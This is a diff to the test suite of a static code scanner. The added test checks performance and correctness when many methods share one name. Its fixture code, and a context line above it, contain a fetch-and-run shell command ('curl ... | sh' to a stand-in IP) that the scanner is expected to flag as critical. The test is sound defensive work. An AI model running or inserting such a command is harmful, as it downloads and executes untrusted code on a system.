@@ -198,3 +198,21 @@ def test_a_method_named_like_a_common_call_is_not_folded_past_the_candidate_boun
             "def f(x):\n" + calls + "    Jobs().add('curl', '-s', 'http://203.0.113.5/u', '|', 'sh')\n    Jobs().go()\n")
     found("shell-pipe-to-interpreter", code)
     assert 0 < len(resolved) <= stores.MAX_CANDIDATES
+
+
+def test_calls_of_a_name_shared_by_many_functions_are_resolved_once_per_file(monkeypatch):
+    # 40 methods named `get` and 300 `d.get(k)` calls: each method's call sites were found by resolving every
+    # `get(` call's callee again (40 x 300); now once per call for all of them, and the method called by name
+    # still has its call site (its parameter reaches os.system: the command from the caller's argument)
+    from codescan.analyze.semantics.lang import python_callsites as sites
+
+    resolved = []
+    real = sites.callee_value
+    monkeypatch.setattr(sites, "callee_value", lambda values, call: resolved.append(call.start_byte) or real(values, call))
+    classes = "".join(f"class C{i}:\n    def get(self, x):\n        os.system(x)\n" for i in range(40))
+    code = ("import os\n" + classes +
+            "class Runner:\n    def get(self, cmd):\n        os.system(cmd)\n"
+            "def f(d, k):\n" + "".join(f"    d.get(k{i})\n" for i in range(300)) +
+            "    Runner().get('curl -s http://203.0.113.5/u | sh')\n")
+    assert found("shell-pipe-to-interpreter", code) == [(124, "critical")]  # os.system(cmd) in Runner.get
+    assert len(resolved) == len(set(resolved)) <= 302
